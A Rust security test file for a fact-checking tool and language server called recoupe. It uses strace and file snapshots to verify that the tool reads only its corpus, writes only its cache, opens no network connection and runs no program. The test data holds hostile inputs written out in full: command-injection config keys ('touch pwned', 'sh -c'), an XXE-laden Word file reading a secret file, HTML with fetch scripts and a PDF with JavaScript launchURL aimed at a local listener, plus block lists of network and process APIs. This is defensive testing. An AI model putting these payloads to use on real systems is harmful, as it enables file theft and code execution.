//! Trust boundaries (docs/security.md), each shown where a test can show it:
//! - recoupe reads only the configured corpus folders, `recoupe.toml` files, the
//!   drafts given on the command line (the server reads no draft: the client sends
//!   their text), its cache folder, and what every program loads (system libraries,
//!   /proc, /sys);
//! - it writes nothing outside its cache folder (`$RECOUPE_CACHE_DIR`, else
//!   `$XDG_CACHE_HOME/recoupe`, else `$HOME/.cache/recoupe`);
//! - it opens no network connection and runs no program;
//! - a symlink inside a corpus folder that leads out of the corpus folders is not
//!   followed; a configured folder outside the workspace (`../wire`) is read;
//! - `recoupe.toml` has no key that names a command, and unknown keys are errors.
//!
//! Two kinds of evidence: what the process does, recorded with `strace` (on Linux,
//! when strace is installed: CI installs it), and a before/after snapshot of every
//! file under the test's folders (always). Static checks back them: no networking
//! or process crate in Cargo.lock, no `std::net` or `std::process::Command` in src/.

mod lsp_support;

use lsp_support::*;
use regex::Regex;
use serde_json::{json, Value};
use std::collections::BTreeMap;
use std::path::{Component, Path, PathBuf};
use std::process::Command;

/// A fresh temporary folder, removed when dropped.
type Tmp = TempDir;

fn write(path: &Path, text: &str) {
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).expect("mkdir");
    }
    std::fs::write(path, text).expect("write");
}

/// `a` and its `..`/`.` resolved lexically (strace shows paths as the program
/// wrote them).
fn normal(a: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for c in a.components() {
        match c {
            Component::ParentDir => {
                out.pop();
            }
            Component::CurDir => {}
            other => out.push(other),
        }
    }
    out
}

// ------------------------------------------------------------- the test world

/// A home, an XDG cache home, a recoupe cache folder, and a workspace whose
/// `recoupe.toml` reads `sources/` and `../wire` (outside the workspace, configured
/// explicitly). `sources/` also holds a symlink to `../private`, which is not
/// configured and must not be read.
struct World {
    root: Tmp,
}

impl World {
    fn new() -> World {
        let root = Tmp::new("world");
        let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples");
        for e in std::fs::read_dir(examples.join("sources"))
            .expect("examples")
            .flatten()
        {
            let text = std::fs::read_to_string(e.path()).expect("example source");
            write(&root.join("ws/sources").join(e.file_name()), &text);
        }
        let draft = std::fs::read_to_string(examples.join("draft.md")).expect("draft");
        write(&root.join("ws/draft.md"), &draft);
        write(
            &root.join("ws/recoupe.toml"),
            "corpus = [\"sources\", \"../wire\"]\ndebounce_ms = 0\n",
        );
        write(
            &root.join("wire/depeche.md"),
            "Le bac de Port-Lierre transporte 80 passagers par traversée.\n",
        );
        write(
            &root.join("private/secret.md"),
            "Le code du coffre de la mairie est 4 812.\n",
        );
        #[cfg(unix)]
        std::os::unix::fs::symlink(root.join("private"), root.join("ws/sources/private"))
            .expect("symlink");
        for d in ["home", "xdg", "cache"] {
            std::fs::create_dir_all(root.join(d)).expect("mkdir");
        }
        World { root }
    }

    fn ws(&self) -> PathBuf {
        self.root.join("ws")
    }

    /// Every file and folder under the world: path -> (is a folder, length, modified,
    /// content) (folders by existence only: an entry added inside shows itself).
    fn snapshot(&self) -> BTreeMap<PathBuf, String> {
        let mut out = BTreeMap::new();
        let mut todo = vec![self.root.to_path_buf()];
        while let Some(d) = todo.pop() {
            for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
                let p = e.path();
                let Ok(m) = p.symlink_metadata() else {
                    continue;
                };
                let state = if m.is_dir() {
                    todo.push(p.clone());
                    "dir".to_string()
                } else {
                    let content = std::fs::read(&p).unwrap_or_default();
                    format!("{} {:?} {:?}", m.len(), m.modified().ok(), content)
                };
                out.insert(p, state);
            }
        }
        out
    }
}

/// Where the cache must be, for each way of configuring it: (variables set, the
/// cache folder they give).
fn cache_layouts(w: &World) -> Vec<(Vec<(&'static str, PathBuf)>, PathBuf)> {
    let r = &w.root;
    vec![
        (
            vec![
                ("RECOUPE_CACHE_DIR", r.join("cache")),
                ("XDG_CACHE_HOME", r.join("xdg")),
                ("HOME", r.join("home")),
            ],
            r.join("cache"),
        ),
        (
            vec![("XDG_CACHE_HOME", r.join("xdg")), ("HOME", r.join("home"))],
            r.join("xdg/recoupe"),
        ),
        (
            vec![("HOME", r.join("home"))],
            r.join("home/.cache/recoupe"),
        ),
    ]
}

/// Set the cache variables `vars`, unset the others. `cargo test` adds its own
/// folders to `LD_LIBRARY_PATH`, where the loader would look for libraries: a user's
/// run has none of them.
fn with_env(cmd: &mut Command, vars: &[(&str, PathBuf)]) {
    for v in [
        "RECOUPE_CACHE_DIR",
        "XDG_CACHE_HOME",
        "HOME",
        "LD_LIBRARY_PATH",
    ] {
        cmd.env_remove(v);
    }
    for (k, v) in vars {
        cmd.env(k, v);
    }
}

/// Every path created, changed or removed between two snapshots that is neither
/// inside `cache` nor a folder on the way to it.
fn written_outside(
    before: &BTreeMap<PathBuf, String>,
    after: &BTreeMap<PathBuf, String>,
    cache: &Path,
) -> Vec<PathBuf> {
    let mut changed: Vec<&PathBuf> = before
        .iter()
        .filter(|(p, s)| after.get(*p) != Some(s))
        .map(|(p, _)| p)
        .collect();
    changed.extend(after.keys().filter(|p| !before.contains_key(*p)));
    changed
        .into_iter()
        .filter(|p| !p.starts_with(cache) && !cache.starts_with(p))
        .cloned()
        .collect()
}

// ------------------------------------------------------------------- strace

/// True when strace can trace here. In CI (`CI` set) it must: the workflow
/// installs it (`apt-get install -y strace`).
fn strace_works() -> bool {
    let ok = Command::new("strace")
        .args(["-f", "-qq", "-o", "/dev/null", "true"])
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        assert!(
            std::env::var_os("CI").is_none(),
            "strace is needed for the trust-boundary tests in CI: apt-get install -y strace"
        );
        eprintln!("strace is not available: only the file snapshots and static checks run");
    }
    ok
}

/// `cmd`'s program and arguments, run under strace writing to `log`.
/// Run `cmd` to its end, under `strace` writing to `trace` when given.
fn output(cmd: &mut Command, trace: Option<&Path>) -> std::process::Output {
    match trace {
        Some(log) => traced(cmd, log).output(),
        None => cmd.output(),
    }
    .expect("run recoupe check")
}

fn traced(cmd: &Command, log: &Path) -> Command {
    let mut t = Command::new("strace");
    t.args([
        "-f",
        "-qq",
        "-s",
        "4096",
        "-e",
        "trace=%file,%network,execve",
        "-o",
    ])
    .arg(log)
    .arg("--")
    .arg(cmd.get_program())
    .args(cmd.get_args());
    if let Some(d) = cmd.get_current_dir() {
        t.current_dir(d);
    }
    for (k, v) in cmd.get_envs() {
        match v {
            Some(v) => t.env(k, v),
            None => t.env_remove(k),
        };
    }
    t
}

/// One system call from an strace log.
#[derive(Debug)]
struct Call {
    name: String,
    /// The paths it names, made absolute against the working folder.
    paths: Vec<PathBuf>,
    args: String,
}

fn calls(log: &Path, cwd: &Path) -> Vec<Call> {
    let text = std::fs::read_to_string(log).expect("strace log");
    let line_re = Regex::new(r"^(?:\d+\s+)?([a-z0-9_]+)\((.*)$").expect("regex");
    let str_re = Regex::new(r#""((?:[^"\\]|\\.)*)""#).expect("regex");
    text.lines()
        .filter_map(|l| {
            let c = line_re.captures(l)?;
            let args = c[2].to_string();
            let mut paths: Vec<PathBuf> = str_re
                .captures_iter(&args)
                .map(|s| normal(&cwd.join(&s[1])))
                .collect();
            if &c[1] == "execve" {
                // its other strings are the arguments
                paths.truncate(1);
            }
            Some(Call {
                name: c[1].to_string(),
                paths,
                args,
            })
        })
        .collect()
}

const NETWORK: [&str; 16] = [
    "socket",
    "connect",
    "bind",
    "listen",
    "accept",
    "accept4",
    "sendto",
    "recvfrom",
    "sendmsg",
    "recvmsg",
    "sendmmsg",
    "recvmmsg",
    "socketpair",
    "getsockopt",
    "setsockopt",
    "shutdown",
];

/// Calls that change the file system, whatever their outcome.
const WRITING: [&str; 27] = [
    "mkdir",
    "mkdirat",
    "rmdir",
    "unlink",
    "unlinkat",
    "rename",
    "renameat",
    "renameat2",
    "link",
    "linkat",
    "symlink",
    "symlinkat",
    "truncate",
    "chmod",
    "fchmodat",
    "fchmodat2",
    "chown",
    "lchown",
    "fchownat",
    "utime",
    "utimes",
    "utimensat",
    "futimesat",
    "mknod",
    "mknodat",
    "setxattr",
    "creat",
];

/// What every program opens: the dynamic loader's cache, libraries, the kernel's
/// view of the process and of the machine (CPU count, cgroup quotas).
const SYSTEM: [&str; 8] = [
    "/etc/ld.so.cache",
    "/etc/ld.so.preload",
    "/lib/",
    "/lib64/",
    "/usr/lib/",
    "/usr/lib64/",
    "/proc/",
    "/sys/",
];

/// Check a trace against the boundaries: one execve (the program itself), no
/// network call, writes only inside `cache`, reads only under `readable` (or the
/// system's files).
fn check_trace(calls: &[Call], cache: &Path, readable: &[PathBuf], what: &str) {
    let execs: Vec<&Call> = calls.iter().filter(|c| c.name == "execve").collect();
    assert_eq!(execs.len(), 1, "{what} ran a program: {execs:#?}");
    let net: Vec<&Call> = calls
        .iter()
        .filter(|c| NETWORK.contains(&c.name.as_str()))
        .collect();
    assert!(net.is_empty(), "{what} used the network: {net:#?}");
    for c in calls {
        let opens = matches!(c.name.as_str(), "open" | "openat" | "openat2");
        let writes_file = opens
            && ["O_WRONLY", "O_RDWR", "O_CREAT", "O_TRUNC", "O_APPEND"]
                .iter()
                .any(|f| c.args.contains(f));
        if WRITING.contains(&c.name.as_str()) || writes_file {
            for p in &c.paths {
                assert!(
                    p.starts_with(cache) || (c.name.starts_with("mkdir") && cache.starts_with(p)),
                    "{what} wrote outside its cache folder: {c:?}"
                );
            }
        } else if opens {
            for p in &c.paths {
                let s = p.to_string_lossy();
                let allowed = SYSTEM.iter().any(|sys| s.starts_with(sys))
                    || p.starts_with(cache)
                    || p.file_name().is_some_and(|n| n == "recoupe.toml")
                    || readable.iter().any(|r| p.starts_with(r));
                assert!(allowed, "{what} opened {} ({c:?})", p.display());
            }
        }
    }
}

// -------------------------------------------------------------------- tests

#[test]
fn recoupe_check_reads_only_its_inputs_and_writes_only_its_cache() {
    let w = World::new();
    let trace_dir = Tmp::new("trace");
    let strace = strace_works();
    for (n, (vars, cache)) in cache_layouts(&w).into_iter().enumerate() {
        let before = w.snapshot();
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_recoupe"));
        cmd.args(["check", "draft.md"]).current_dir(w.ws());
        with_env(&mut cmd, &vars);
        let log = trace_dir.join(format!("check-{n}.log"));
        let out = output(&mut cmd, strace.then_some(log.as_path()));
        let stderr = String::from_utf8_lossy(&out.stderr);
        // the example's contradiction is found; the link out of the corpus is not
        // followed, and says so (in the French draft's words)
        assert_eq!(out.status.code(), Some(1), "{stderr}");
        assert!(
            stderr.contains("sources/private: lien symbolique vers")
                && stderr.contains("non suivi"),
            "{stderr}"
        );
        let warnings = stderr.lines().filter(|l| l.contains("warning")).count();
        assert_eq!(warnings, 1, "{stderr}");
        let outside = written_outside(&before, &w.snapshot(), &cache);
        assert!(outside.is_empty(), "{vars:?}: wrote {outside:?}");
        if strace {
            let readable = [
                w.ws().join("sources"),
                w.root.join("wire"),
                w.ws().join("draft.md"),
            ];
            let calls = calls(&log, &w.ws());
            check_trace(&calls, &cache, &readable, "recoupe check");
            // the configured folder outside the workspace was read, the secret not
            let opened = |p: &Path| calls.iter().any(|c| c.paths.iter().any(|x| x == p));
            assert!(opened(&w.root.join("wire/depeche.md")));
            assert!(!opened(&w.root.join("private/secret.md")));
        }
    }
}

/// A whole editing session: settings with a key that is not ours, a draft opened,
/// edited, hovered, fixed, pulled, the corpus reloaded, then shutdown.
fn session(lsp: &mut Lsp, ws: &Path) {
    let text = std::fs::read_to_string(ws.join("draft.md")).expect("draft");
    let uri = file_uri(&ws.join("draft.md"));
    let r = lsp.request(
        "initialize",
        json!({"processId": null, "rootUri": file_uri(ws),
               "workspaceFolders": [{"uri": file_uri(ws), "name": "ws"}],
               "initializationOptions": {"recoupe": {"command": "touch pwned"}},
               "capabilities": utf16_caps()}),
    );
    assert!(r.get("error").is_none(), "{r}");
    lsp.notify("initialized", json!({}));
    lsp.open(&uri, &text);
    let diags = lsp.diagnostics(0, &uri, 1);
    assert!(
        diags.iter().any(|d| d["code"] == "contradicted"),
        "{diags:?}"
    );
    let (a, b) = find(&text, "4 200", 0);
    let r = lsp.request(
        "textDocument/hover",
        json!({"textDocument": {"uri": uri}, "position": position(&text, a, false)}),
    );
    assert!(r["result"].is_object(), "{r}");
    let r = lsp.request(
        "textDocument/codeAction",
        json!({"textDocument": {"uri": uri}, "range": range(&text, (a, b), false),
               "context": {"diagnostics": []}}),
    );
    assert!(r["result"].as_array().is_some_and(|a| !a.is_empty()), "{r}");
    lsp.notify(
        "textDocument/didChange",
        json!({"textDocument": {"uri": uri, "version": 2},
               "contentChanges": [{"range": range(&text, (a, b), false), "text": "2 400"}]}),
    );
    let r = lsp.request(
        "textDocument/diagnostic",
        json!({"textDocument": {"uri": uri}}),
    );
    assert!(r.get("error").is_none(), "{r}");
    let r = lsp.request(
        "workspace/executeCommand",
        json!({"command": "recoupe.reloadCorpus", "arguments": []}),
    );
    assert!(r.get("error").is_none(), "{r}");
    lsp.notify(
        "textDocument/didClose",
        json!({"textDocument": {"uri": uri}}),
    );
}

#[test]
fn the_language_server_reads_only_the_corpus_and_writes_only_its_cache() {
    let w = World::new();
    let trace_dir = Tmp::new("trace");
    let strace = strace_works();
    for (n, (vars, cache)) in cache_layouts(&w).into_iter().enumerate() {
        let before = w.snapshot();
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_recoupe"));
        cmd.arg("lsp").current_dir(w.ws());
        with_env(&mut cmd, &vars);
        let log = trace_dir.join(format!("lsp-{n}.log"));
        let mut lsp = Lsp::stdio_command(if strace { traced(&cmd, &log) } else { cmd });
        session(&mut lsp, &w.ws());
        assert!(lsp.shutdown(), "the session ended cleanly");
        let outside = written_outside(&before, &w.snapshot(), &cache);
        assert!(outside.is_empty(), "{vars:?}: wrote {outside:?}");
        assert!(!w.ws().join("pwned").exists());
        if strace {
            // not even the draft: the client sends its text
            let readable = [w.ws().join("sources"), w.root.join("wire")];
            let calls = calls(&log, &w.ws());
            check_trace(&calls, &cache, &readable, "recoupe lsp");
            let opened = |p: &Path| calls.iter().any(|c| c.paths.iter().any(|x| x == p));
            assert!(opened(&w.root.join("wire/depeche.md")));
            assert!(!opened(&w.root.join("private/secret.md")));
            assert!(!opened(&w.ws().join("draft.md")));
        }
    }
}

#[test]
fn recoupe_toml_has_no_key_that_runs_anything() {
    let w = World::new();
    let strace = strace_works();
    let trace_dir = Tmp::new("trace");
    // keys a configuration could use to name a program: all refused
    let keys = [
        "command = \"touch pwned\"",
        "cmd = [\"sh\", \"-c\", \"touch pwned\"]",
        "server = \"touch pwned\"",
        "exec = \"touch pwned\"",
        "shell = \"/bin/sh\"",
        "plugins = [\"pwned\"]",
        "[env]\nPATH = \"/tmp\"",
        "[hooks]\nbefore_check = \"touch pwned\"",
        "[severity]\ncommand = \"error\"",
    ];
    for (n, key) in keys.iter().enumerate() {
        write(
            &w.ws().join("recoupe.toml"),
            &format!("corpus = [\"sources\"]\n{key}\n"),
        );
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_recoupe"));
        cmd.args(["check", "draft.md"]).current_dir(w.ws());
        let log = trace_dir.join(format!("toml-{n}.log"));
        let out = output(&mut cmd, strace.then_some(log.as_path()));
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{key}: {stderr}");
        assert!(
            stderr.contains("unknown field") || stderr.contains("unknown diagnostic code"),
            "{key}: {stderr}"
        );
        assert!(!w.ws().join("pwned").exists(), "{key}");
        if strace {
            let calls = calls(&log, &w.ws());
            let execs = calls.iter().filter(|c| c.name == "execve").count();
            assert_eq!(execs, 1, "{key}");
        }
    }
    // the server shows the error, reads no corpus for that folder, and goes on
    write(
        &w.ws().join("recoupe.toml"),
        "corpus = [\"sources\"]\ncommand = \"touch pwned\"\n",
    );
    let mut lsp = Lsp::stdio(&w.ws());
    lsp.initialize(&w.ws(), utf16_caps());
    let shown = lsp
        .wait_note(0, |n| n["method"] == "window/showMessage")
        .unwrap_or(Value::Null);
    let message = shown["params"]["message"].as_str().unwrap_or("");
    assert!(
        message.contains("recoupe.toml") && message.contains("unknown field `command`"),
        "{shown}"
    );
    assert!(lsp.shutdown());
    assert!(!w.ws().join("pwned").exists());
}

#[test]
fn no_networking_or_process_crate_and_no_such_code() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let lock = std::fs::read_to_string(root.join("Cargo.lock")).expect("Cargo.lock");
    // crates whose presence would mean sockets or child processes. The one
    // connection Recoupe may open is to a newsroom archive the settings name
    // (PostgreSQL, src/archive/): tokio-postgres brings socket2 and tokio's `net`,
    // rustls its TLS. Those are allowed; no HTTP, no other TLS stack, no process.
    let banned = [
        "hyper",
        "h2",
        "reqwest",
        "ureq",
        "curl",
        "isahc",
        "surf",
        "attohttpc",
        "native-tls",
        "openssl",
        "tungstenite",
        "tokio-tungstenite",
        "async-std",
        "smol",
        "async-process",
        "async-net",
        "duct",
        "subprocess",
        "command-group",
        "nix",
    ];
    let names: Vec<&str> = lock
        .lines()
        .filter_map(|l| l.strip_prefix("name = \""))
        .filter_map(|l| l.strip_suffix('"'))
        .collect();
    assert!(
        names.contains(&"tokio"),
        "Cargo.lock has an unexpected shape"
    );
    let found: Vec<&&str> = banned.iter().filter(|b| names.contains(b)).collect();
    assert!(
        found.is_empty(),
        "networking or process crates in Cargo.lock: {found:?}"
    );
    // mio is allowed only as the event loop of `notify`, the fallback file watcher,
    // and of tokio, whose sockets only the archive's PostgreSQL client opens
    let mio_users: Vec<&str> = lock
        .split("[[package]]")
        .filter(|p| {
            p.lines()
                .any(|l| l.trim() == "\"mio\"," || l.trim().starts_with("\"mio "))
        })
        .filter_map(|p| p.lines().find_map(|l| l.strip_prefix("name = \"")))
        .filter_map(|l| l.strip_suffix('"'))
        .collect();
    assert!(
        mio_users.iter().all(|p| *p == "notify" || *p == "tokio"),
        "mio brought in by {mio_users:?}"
    );
    let manifest = std::fs::read_to_string(root.join("Cargo.toml")).expect("Cargo.toml");
    for feature in ["\"process\"", "\"full\"", "\"signal\""] {
        let tokio_line = manifest
            .lines()
            .find(|l| l.starts_with("tokio "))
            .unwrap_or_default();
        assert!(!tokio_line.contains(feature), "tokio with {feature}");
    }
    // and no code in src/ that could open a socket or start a program (the archive's
    // connection is opened inside tokio-postgres, from a URL the settings give)
    let banned_code = [
        "std::net",
        "TcpStream",
        "TcpListener",
        "UdpSocket",
        "UnixStream",
        "UnixListener",
        "process::Command",
        "Command::new",
        "tokio::net",
        "tokio::process",
        "libc::",
    ];
    let mut todo = vec![root.join("src")];
    let mut seen = 0;
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).expect("src").flatten() {
            let p = e.path();
            if p.is_dir() {
                todo.push(p);
            } else if p.extension().is_some_and(|x| x == "rs") {
                seen += 1;
                let text = std::fs::read_to_string(&p).expect("source");
                for b in banned_code {
                    assert!(!text.contains(b), "{} uses {b}", p.display());
                }
            }
        }
    }
    assert!(seen > 20, "only {seen} source files found");
}

#[test]
fn the_trace_checker_catches_what_it_should() {
    // The checks above pass when recoupe behaves; this shows they would fail if it
    // did not. (strace line, whether check_trace accepts it)
    let exec = "1 execve(\"/bin/recoupe\", [\"recoupe\", \"lsp\"], 0x0 /* 3 vars */) = 0";
    let cases = [
        ("1 openat(AT_FDCWD, \"sources/a.md\", O_RDONLY|O_CLOEXEC) = 3", true),
        ("1 openat(AT_FDCWD, \"/lib/x86_64-linux-gnu/libc.so.6\", O_RDONLY|O_CLOEXEC) = 3", true),
        ("1 openat(AT_FDCWD, \"/c/home/.cache/recoupe/index\", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3", true),
        ("1 mkdir(\"/c/home/.cache\", 0777) = 0", true),
        ("2 statx(AT_FDCWD, \"/etc/shadow\", AT_STATX_SYNC_AS_STAT, STATX_ALL, {}) = 0", true),
        ("1 openat(AT_FDCWD, \"/etc/passwd\", O_RDONLY|O_CLOEXEC) = 3", false),
        ("1 openat(AT_FDCWD, \"draft.md\", O_RDONLY|O_CLOEXEC) = 3", false),
        ("2 openat(AT_FDCWD, \"/c/ws/notes.md\", O_WRONLY|O_CREAT|O_TRUNC, 0666) = -1 EACCES", false),
        ("1 openat(AT_FDCWD, \"../ws/sources/x.md\", O_RDWR) = 3", false),
        ("1 unlinkat(AT_FDCWD, \"/c/ws/sources/a.md\", 0) = 0", false),
        ("1 renameat2(AT_FDCWD, \"/c/home/.cache/recoupe/t\", AT_FDCWD, \"/c/ws/t\", 0) = 0", false),
        ("3 socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = 5", false),
        ("3 connect(5, {sa_family=AF_INET, sin_port=htons(443)}, 16) = 0", false),
        ("4 execve(\"/bin/sh\", [\"sh\", \"-c\", \"x\"], 0x0 /* 3 vars */) = 0", false),
    ];
    let dir = Tmp::new("checker");
    let cwd = Path::new("/c/ws");
    let cache = Path::new("/c/home/.cache/recoupe");
    for (n, (line, accepted)) in cases.into_iter().enumerate() {
        let log = dir.join(format!("{n}.log"));
        std::fs::write(&log, format!("{exec}\n{line}\n")).expect("write log");
        let calls = calls(&log, cwd);
        assert_eq!(calls.len(), 2, "{line}: parsed {calls:?}");
        let ok =
            std::panic::catch_unwind(|| check_trace(&calls, cache, &[cwd.join("sources")], "test"))
                .is_ok();
        assert_eq!(ok, accepted, "{line}");
    }
}

// ------------------------------------------------------------ hostile documents

/// A Word file of `parts` (name, content), zipped.
fn docx_of(parts: &[(&str, String)]) -> Vec<u8> {
    use std::io::Write;
    let mut out = std::io::Cursor::new(Vec::new());
    {
        let mut zip = zip::ZipWriter::new(&mut out);
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored);
        for (name, content) in parts {
            zip.start_file(*name, opts).expect("zip entry");
            zip.write_all(content.as_bytes()).expect("zip write");
        }
        zip.finish().expect("zip");
    }
    out.into_inner()
}

/// A one-page PDF saying `text`, that asks its reader to run JavaScript when opened,
/// to open an address when clicked, and that embeds a file: none of it may happen.
fn hostile_pdf(text: &str, url: &str) -> Vec<u8> {
    use lopdf::{dictionary, Document, Object, Stream};
    let mut doc = Document::with_version("1.5");
    let pages_id = doc.new_object_id();
    let font = doc.add_object(dictionary! {
        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica",
    });
    let content = format!("BT /F1 12 Tf 72 720 Td ({text}) Tj ET");
    let content_id = doc.add_object(Stream::new(dictionary! {}, content.into_bytes()));
    let link = doc.add_object(dictionary! {
        "Type" => "Annot", "Subtype" => "Link",
        "Rect" => vec![0.into(), 0.into(), 600.into(), 800.into()],
        "A" => dictionary! { "S" => "URI", "URI" => Object::string_literal(url) },
    });
    let page_id = doc.add_object(dictionary! {
        "Type" => "Page", "Parent" => pages_id, "Contents" => content_id,
        "Resources" => dictionary! { "Font" => dictionary! { "F1" => font } },
        "MediaBox" => vec![0.into(), 0.into(), 612.into(), 792.into()],
        "Annots" => vec![link.into()],
    });
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages", "Kids" => vec![page_id.into()], "Count" => 1,
        }),
    );
    let js = format!("app.launchURL('{url}'); this.submitForm('{url}');");
    let catalog = doc.add_object(dictionary! {
        "Type" => "Catalog", "Pages" => pages_id,
        "OpenAction" => dictionary! { "S" => "JavaScript", "JS" => Object::string_literal(js) },
    });
    doc.trailer.set("Root", catalog);
    let mut bytes = Vec::new();
    doc.save_to(&mut bytes).expect("pdf");
    bytes
}

/// A saved page, a Word file and a PDF that try to run code, fetch from the network
/// (a listener stands at the address they name) and read a file outside the corpus
/// (an external entity): recoupe reads their text, runs nothing, connects nowhere,
/// opens nothing beyond the corpus, and does not panic. Under strace when there is
/// one (CI installs it); the listener, the output and the exit code always.
#[test]
fn hostile_pages_pdfs_and_word_files_run_and_fetch_nothing() {
    let root = Tmp::new("hostile");
    let secret = root.join("private/secret.txt");
    write(&secret, "The vault code is 4812.\n");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    listener.set_nonblocking(true).expect("non-blocking");
    let url = format!("http://{}/track", listener.local_addr().expect("addr"));
    let src = root.join("ws/sources");
    let page = format!(
        "<!DOCTYPE html><html><head><title>Ferry count</title>\
         <script src=\"{url}.js\"></script><link rel=\"stylesheet\" href=\"{url}.css\">\
         <meta http-equiv=\"refresh\" content=\"0; url={url}\">\
         <script>document.write('<p>The ferry carried 99,999 passengers.</p>'); fetch('{url}');</script>\
         </head><body><article><h1>Ferry count</h1>\
         <p>The island ferry carried 41,000 passengers last year, the harbour office said \
         on Monday in its yearly count of crossings between the two ports.</p>\
         <img src=\"{url}.png\" onerror=\"fetch('{url}')\"><iframe src=\"file://{}\"></iframe>\
         <p>Its owner plans a second boat for the summer months, when the number of \
         crossings doubles, the harbour office added.</p></article></body></html>",
        secret.display()
    );
    write(&src.join("ferry.html"), &page);
    let w = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
    let document = format!(
        "<?xml version=\"1.0\"?>\
         <!DOCTYPE w:document [<!ENTITY secret SYSTEM \"file://{}\"><!ENTITY remote SYSTEM \"{url}.dtd\">\
         <!ENTITY % p SYSTEM \"{url}.ent\"> %p;]>\
         <w:document {w}><w:body>\
         <w:p><w:r><w:t>The dock employs 120 staff. &secret; &remote;</w:t></w:r></w:p>\
         </w:body></w:document>",
        secret.display()
    );
    let rels = format!(
        "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
         <Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" \
         Target=\"{url}.png\" TargetMode=\"External\"/></Relationships>"
    );
    let docx = docx_of(&[
        ("word/document.xml", document),
        ("word/_rels/document.xml.rels", rels),
    ]);
    std::fs::write(src.join("dock.docx"), docx).expect("docx");
    std::fs::write(
        src.join("pier.pdf"),
        hostile_pdf(
            "The new pier is 240 metres long, the harbour office said.",
            &url,
        ),
    )
    .expect("pdf");
    let ws = root.join("ws");
    write(&ws.join("recoupe.toml"), "corpus = [\"sources\"]\n");
    write(
        &ws.join("draft.md"),
        "The island ferry carried 41,000 passengers last year, the harbour office said.\n",
    );
    let cache = root.join("cache");
    let strace = strace_works();
    let log = root.join("check.log");
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_recoupe"));
    cmd.args(["check", "--format", "json", "draft.md"])
        .current_dir(&ws);
    with_env(&mut cmd, &[("RECOUPE_CACHE_DIR", cache.clone())]);
    let out = output(&mut cmd, strace.then_some(log.as_path()));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(matches!(out.status.code(), Some(0 | 1)), "{stderr}");
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert!(!stderr.contains("warning"), "every file was read: {stderr}");
    // Nothing connected to the address the documents name.
    assert!(
        listener.accept().is_err(),
        "a document's address was fetched"
    );
    if strace {
        let calls = calls(&log, &ws);
        check_trace(
            &calls,
            &cache,
            &[src.clone(), ws.join("draft.md")],
            "recoupe check",
        );
        assert!(
            !calls.iter().any(|c| c.paths.iter().any(|p| p == &secret)),
            "an external entity was read"
        );
    }
    // What was read: the article, the paragraph without its entities, the page's
    // text; no script's output, no secret.
    let (corpus, warnings, _) = recoupe::corpus::disk::load(std::slice::from_ref(&src), None);
    assert!(warnings.is_empty(), "{warnings:?}");
    let text: String = corpus.docs.iter().map(|s| s.doc.text.clone()).collect();
    assert!(text.contains("41,000 passengers"), "{text}");
    assert!(text.contains("The dock employs 120 staff."), "{text}");
    assert!(text.contains("240 metres long"), "{text}");
    for absent in ["99,999", "4812", "vault", "launchURL", "track"] {
        assert!(!text.contains(absent), "{absent} in {text}");
    }
}
